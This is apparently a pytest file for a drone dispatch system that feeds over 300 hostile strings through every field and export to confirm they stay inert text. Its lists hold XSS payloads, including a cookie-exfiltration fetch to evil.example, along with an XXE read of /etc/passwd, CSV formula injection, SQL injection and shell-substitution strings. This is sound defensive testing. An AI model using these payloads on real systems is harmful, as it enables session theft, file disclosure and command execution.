"""Whatever people write stays text: 300 hostile texts and more through every field, to every export and TAK message.

Nothing runs, nothing is malformed, and what was written comes out as it was cleaned at the door.
"""

import csv
import io
from datetime import UTC, datetime
from html.parser import HTMLParser
from itertools import product
from xml.etree import ElementTree as ET

import msgspec
import pytest

from gcs.auth import seat_name
from gcs.clock import ManualClock
from gcs.dispatch.channels.channel import Delivery
from gcs.dispatch.channels.ntfy import Ntfy
from gcs.dispatch.channels.settings import NtfySettings
from gcs.dispatch.channels.tak import cot, outgoing
from gcs.dispatch.channels.tak.incoming import Stream
from gcs.dispatch.links import Links
from gcs.dispatch.model import Unit, UnitKind
from gcs.dispatch.receipts import Receipts
from gcs.events import Event
from gcs.fleet.state import Position, VehicleState
from gcs.operations.model import Operation, OperationStatus
from gcs.sightings.analysis_files import COLUMNS, sightings_csv
from gcs.sightings.cap import cap_message
from gcs.sightings.catalogue import default_catalogue
from gcs.sightings.errors import InvalidReportError
from gcs.sightings.intake import SightingReport, SourceReport, make_sighting
from gcs.sightings.text import clean_line, clean_note
from gcs.sightings.workflow import Action, Asked, take
from gcs.sites.read import load_sites
from maps.report import report_html
from missions.plan import Plan, Sortie, Waypoint

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
CATALOGUE = default_catalogue()

CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/x.js')",
    "document.write(1)",
    "location='javascript:alert(1)'",
)
MARKUP = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "</script><script>{}</script>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>",
    '<iframe src="javascript:{}">',
    '<iframe srcdoc="<script>{}</script>">',
    '<a href="javascript:{}">x</a>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></p><img src=x onerror={}></mtext></math>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><input type=submit>',
    "<style>@import 'javascript:{}'</style>",
    "<marquee onstart={}>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    "`-{}-`",
    "${{{}}}",
    "{{{{{}}}}}",
    "javascript:{}",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</noscript><img src=x onerror={}>",
    "%3Cscript%3E{}%3C/script%3E",
)
BREAKING = (
    "</remarks></detail></event><event type='a-h-G'>",
    "</description></info></alert>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&unknown;",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "\x00\x01\x08\x0b\x1f",
    "\ud800",
    "\udfff",
    "\ufffe\uffff",
    "\u2028\u2029",
    "\u202e\u2066\u200f",
    "a\u0301" * 50,
    "👩‍👩‍👧‍👦" * 20,
    "\r\nX-Injected: 1\r\n\r\n",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","x\n"',
    "';DROP TABLE sightings;--",
    "../../etc/passwd",
    "%s%n%x",
    "{0.__class__}",
    "$(id)",
    "`id`",
    "|id",
    "null",
    "NaN",
    "1e999",
    "[]",
    "{}",
    "\\",
    "\\u003cscript\\u003e",
    "'\"`<>&",
)
HOSTILE = tuple(dict.fromkeys([*(form.format(call) for form, call in product(MARKUP, CALLS)), *BREAKING]))

PLAIN = "plain"


def sighting(text, number=0):
    """A sighting that has the text in every field that takes one, and was resolved with it."""
    line = text[:100]
    named, actor = line if clean_line(line, "") else PLAIN, seat_name(line)
    source = SourceReport(kind="camera", name=line, vehicle=named, detector=line, frame=line)
    report = SightingReport(klass="crowd", lat=29.9, lon=121.84, note=text, operation="op", source=source)
    new_id = f"0f8fad5b-d9cb-469f-a165-{number:012d}"
    seen = make_sighting(report, CATALOGUE, new_id=new_id, now=NOW, actor=actor)
    for action in (Action.ASSIGN, Action.ACCEPT, Action.ARRIVE, Action.FEEDBACK, Action.RESOLVE):
        seen = take(seen, Asked(action, NOW, actor, "car-1", f"{text} {action}", named))
    return seen


ALL = [sighting(text, number) for number, text in enumerate(HOSTILE)]


def shape(document):
    """The elements and attributes of an XML document, without what they hold."""
    return [(element.tag, sorted(element.attrib)) for element in ET.fromstring(document).iter()]


def test_there_are_more_than_three_hundred_and_none_twice():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 300


def test_cap_messages_are_well_formed_and_hold_the_text():
    expected = shape(cap_message(sighting(PLAIN), CATALOGUE, "aeropatrol"))
    for text, seen in zip(HOSTILE, ALL, strict=True):
        message = cap_message(seen, CATALOGUE, "aeropatrol")
        note = cot.clean(clean_note(text, "")).replace("\r", "\n")
        if note:
            assert shape(message) == expected, text
            found = ET.fromstring(message).find(".//{*}description").text
            assert found.replace("\ufffe", "").replace("\uffff", "") == note


def test_the_csv_has_its_columns_and_no_formula():
    rows = list(csv.reader(io.StringIO(sightings_csv(ALL, CATALOGUE), newline="")))
    assert len(rows) == len(ALL) + 1
    assert {len(row) for row in rows} == {len(COLUMNS)}
    cells = {cell[0] for row in rows[1:] for name, cell in zip(COLUMNS, row, strict=True) if cell and name != "lat"}
    assert not cells & set("=+-@\t\r")


def vehicle(name):
    return VehicleState(
        id="main-1", network="main", sysid=1, autopilot=3, vehicle_type=2, mode=name, armed=True, system_status=4,
        last_heard_s=0.0, last_heartbeat_s=0.0, name=name,
        position=Position(lat_deg=29.9, lon_deg=121.8, alt_rel_m=50.0, alt_amsl_m=60.0),
    )  # fmt: skip


def told(text, seen):
    """Every TAK message that the text can get into."""
    unit = Unit(id="u", name=text, kind=UnitKind.OFFICER, lat_deg=29.9, lon_deg=121.8)
    return [
        outgoing.marker(seen, CATALOGUE, NOW),
        outgoing.chat(("us", text), ("them", text), text, text, NOW, exercise=False),
        outgoing.hello("us", text, NOW, exercise=False),
        outgoing.unit(unit, NOW),
        *outgoing.track(vehicle(text), None, NOW, text),
    ]


def test_tak_messages_are_well_formed_one_each_and_read_by_our_own_ear():
    expected = [shape(event) for event in told(PLAIN, sighting(PLAIN))]
    for text, seen in zip(HOSTILE, ALL, strict=True):
        events = told(text, seen)
        for event, wanted in zip(events, expected, strict=True):
            assert shape(event) == wanted, text
            assert event.count(b"</event>") == 1
        stream = Stream()
        stream.feed(b"".join(events))
        assert stream.dropped == 0


def test_json_for_other_systems_holds_the_text_as_it_was_cleaned():
    for text, seen in zip(HOSTILE, ALL, strict=True):
        back = msgspec.json.decode(msgspec.json.encode(seen))
        assert back["note"] == clean_note(text, "")
        assert "\ud800" not in back["note"]


def test_a_phones_screen_says_nothing_that_somebody_wrote():
    settings = NtfySettings(name="n", url="https://ntfy.example", topic="t")
    clock = ManualClock(NOW)
    ntfy = Ntfy(settings, CATALOGUE, load_sites(""), Links(clock), receipts=Receipts(), clock=clock)
    event = Event(kind="sighting.supervised", at=NOW, actor="x", sighting="s")
    said = {msgspec.json.encode({**ntfy._message(Delivery("1", event, seen, 1), seen)}) for seen in ALL}
    assert len(said) == 1


class Shape(HTMLParser):
    """The elements and attributes of a page, as a browser would make them."""

    def __init__(self, text):
        super().__init__()
        self.found = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.add((tag, *sorted(name for name, _ in attrs)))


@pytest.fixture(scope="module")
def report():
    path = tuple(Waypoint(121.84 + 0.0005 * leg, 29.9, 50.0, survey=leg > 0) for leg in range(3))
    ring = ((121.84, 29.9), (121.841, 29.9), (121.841, 29.901), (121.84, 29.901))
    plan = Plan(((ring,),), (), (Sortie(0, 0, path, 100.0, 120.0, 40.0, 8.0),), 500.0, 1.0)

    def make(sightings, text):
        operation = Operation(
            id="op",
            name=text,
            purpose=text,
            plan_hash=plan.hash,
            vehicles=("main-1",),
            created_at=NOW,
            created_by=text,
            status=OperationStatus.CLOSED,
        )
        events = [Event(kind="sighting.created", at=NOW, actor=text, sighting=s.id, operation="op") for s in sightings]
        units = [Unit(id="u", name=text, kind=UnitKind.OFFICER)]
        return report_html(operation, plan, {}, sightings, units, events, written_at=NOW, land=[])

    return make


def test_the_report_has_the_elements_of_a_plain_one_and_no_other(report):
    expected = Shape(report([sighting(PLAIN)], PLAIN)).found
    page = report(ALL, "".join(HOSTILE)[:400])
    assert Shape(page).found <= expected
    assert "<script" not in page
    for seen in ALL[::50]:
        assert Shape(report([seen], seen.note[:100])).found <= expected


def test_a_text_that_is_too_long_is_refused_at_the_door_with_its_field():
    with pytest.raises(InvalidReportError, match="note"):
        sighting("x" * 2001)
